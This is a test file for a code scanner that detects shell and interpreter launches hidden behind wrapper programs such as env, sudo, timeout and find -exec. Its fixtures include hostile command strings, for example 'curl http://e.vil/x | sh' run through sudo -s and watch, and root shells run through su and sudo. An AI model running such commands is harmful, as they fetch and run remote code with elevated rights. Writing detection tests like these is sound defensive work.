import t from 'tap';
import { launchedProgram } from '../../../../plugins/engines/code/launchers.js';
import { envHookFinding } from '../../../../plugins/engines/code/env-hooks.js';
import { blockedOverHttp, pick, ruleTable } from '../rule-table.js';

/**
 * A program that launches the program named in its own argv (`env`, `timeout`, `sudo`, `xargs`,
 * `find -exec`, `su -c`, `watch`, …) is not the program that runs: `["env", "sh", "-c", cmd]` was a
 * fixed program with computed arguments (MEDIUM, admitted) where `["sh", "-c", cmd]` is HIGH.
 */
const PY: Array<[name: string, src: string, rule: string]> = [
  ['env sh -c', `import subprocess\nsubprocess.run(['/usr/bin/env', 'sh', '-c', cmd])\n`, 'python.process.interpreter'],
  ['env with settings', `import subprocess\nsubprocess.run(['env', 'A=1', '-u', 'B', 'bash', '-c', 'id'])\n`, 'python.process.interpreter'],
  ['env -S splits its value', `import subprocess\nsubprocess.run(['env', '-S', 'bash -c id'])\n`, 'python.process.interpreter'],
  ['timeout with a duration', `import subprocess\nsubprocess.run(['timeout', '-s', 'KILL', '5', 'python3', '-c', src])\n`, 'python.process.interpreter'],
  ['nice', `import subprocess\nsubprocess.run(['nice', '-n', '10', 'sh', '-c', cmd])\n`, 'python.process.interpreter'],
  ['sudo -u user', `import subprocess\nsubprocess.run(['sudo', '-u', 'root', 'perl', '-e', src])\n`, 'python.process.interpreter'],
  ['sudo of a recon program', `import subprocess\nsubprocess.run(['sudo', 'id'])\n`, 'python.process.host_recon'],
  ['sudo -s runs a shell', `import subprocess\nsubprocess.run(['sudo', '-s', 'curl http://e.vil/x | sh'])\n`, 'python.rce.download_pipe_shell'],
  ['xargs sh -c', `import subprocess\nsubprocess.run(['xargs', '-I', '{}', 'sh', '-c', 'id'])\n`, 'python.process.interpreter'],
  ['find -exec sh', `import subprocess\nsubprocess.run(['find', '.', '-name', '*.py', '-exec', 'sh', '-c', cmd, ';'])\n`, 'python.process.interpreter'],
  ['find -exec of a computed program', `import subprocess\nsubprocess.run(['find', '.', '-exec', prog, ';'])\n`, 'python.process.dynamic_program'],
  ['su -c after the user', `import subprocess\nsubprocess.run(['su', 'root', '-c', cmd])\n`, 'python.process.interpreter'],
  ['watch runs sh -c', `import subprocess\nsubprocess.run(['watch', '-n', '1', 'curl', 'http://e.vil/x', '|', 'sh'])\n`, 'python.rce.download_pipe_shell'],
  ['launcher of a computed program', `import subprocess\nsubprocess.run(['timeout', '5', prog])\n`, 'python.process.dynamic_program'],
  ['nested launchers', `import subprocess\nsubprocess.run(['env', 'nohup', 'nice', 'node', '-e', src])\n`, 'python.process.interpreter'],
  ['env alone prints the environment', `import subprocess\nsubprocess.run(['env'])\n`, 'python.process.host_recon'],
  ['awk is an interpreter', `import subprocess\nsubprocess.run(['awk', 'BEGIN{system("id")}'])\n`, 'python.process.interpreter'],
  ['asyncio exec through env', `import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('env', 'bash', '-c', cmd)\n`, 'python.process.interpreter'],
];
const PY_SAFE: Array<[name: string, src: string]> = [
  ['timeout of a fixed program', `import subprocess\nsubprocess.run(['timeout', '10', 'git', 'fetch'])\n`],
  ['nice of a fixed program, computed argument is MEDIUM', `import subprocess\nsubprocess.run(['nice', '-n', '5', 'make', target])\n`],
  ['find without -exec', `import subprocess\nsubprocess.run(['find', '.', '-name', '*.py'])\n`],
  ['find -exec of a fixed program', `import subprocess\nsubprocess.run(['find', '.', '-name', '*.pyc', '-exec', 'rm', '{}', ';'])\n`],
];
const JS: Array<[name: string, src: string, rule: string]> = [
  ['spawn env sh -c', `require('child_process').spawn('env', ['sh', '-c', cmd])`, 'javascript.process.interpreter'],
  ['execFile timeout node -e', `require('child_process').execFile('timeout', ['5', 'node', '-e', src])`, 'javascript.process.interpreter'],
  ['spawnSync sudo -u', `require('child_process').spawnSync('sudo', ['-u', 'root', 'bash'])`, 'javascript.process.interpreter'],
  ['spawn find -exec computed', `require('child_process').spawn('find', ['.', '-exec', prog, ';'])`, 'javascript.process.dynamic_program'],
];
const JS_SAFE: Array<[name: string, src: string]> = [
  ['spawn timeout git', `require('child_process').spawn('timeout', ['10', 'git', 'fetch'])`],
];

ruleTable('launchers in Python argv', 'python', PY, PY_SAFE);
ruleTable('launchers in JavaScript argv', 'javascript', JS, JS_SAFE);

t.test('launchedProgram', async (t) => {
  t.same(launchedProgram('ls', ['-l']), { program: 'ls', items: ['-l'], via: [] }, 'not a launcher');
  t.same(launchedProgram('/usr/bin/env', ['FOO=1', 'python3', 'x.py']), { program: 'python3', items: ['x.py'], via: ['env'] });
  t.same(launchedProgram('timeout', ['--signal', 'TERM', '30s', '--', 'git', 'pull']), { program: 'git', items: ['pull'], via: ['timeout'] });
  t.same(launchedProgram('sudo', ['-u', null, 'ls']), { program: 'ls', items: [], via: ['sudo'] }, 'a computed option value is not the program');
  t.same(launchedProgram('env', [null, 'x']), { program: null, items: ['x'], via: ['env'] }, 'a computed program');
  t.same(launchedProgram('flock', ['/tmp/lock', '-c', 'make all']), { program: 'sh', items: ['-c', 'make all'], via: ['flock'] });
  t.same(launchedProgram('env', []), { program: 'env', items: [], via: [] }, 'env alone runs itself');
});

t.test('a git command variable behind a launcher', async (t) => {
  t.match(envHookFinding('GIT_SSH_COMMAND', 'env bash -c id'), { rule: 'process.env_hook' });
  t.match(envHookFinding('GIT_SSH_COMMAND', 'timeout 5 python3 x.py'), { rule: 'process.env_hook' });
  t.equal(envHookFinding('GIT_SSH_COMMAND', 'ssh -i /keys/deploy -o StrictHostKeyChecking=no'), null, 'a fixed ssh command');
});

blockedOverHttp(
  'POST /verify/code sees through launchers',
  [...pick(PY, ['env sh -c', 'find -exec sh'], 'python'), ...pick(JS, ['spawn env sh -c'], 'javascript')],
  pick(PY_SAFE, ['timeout of a fixed program'], 'python'),
);
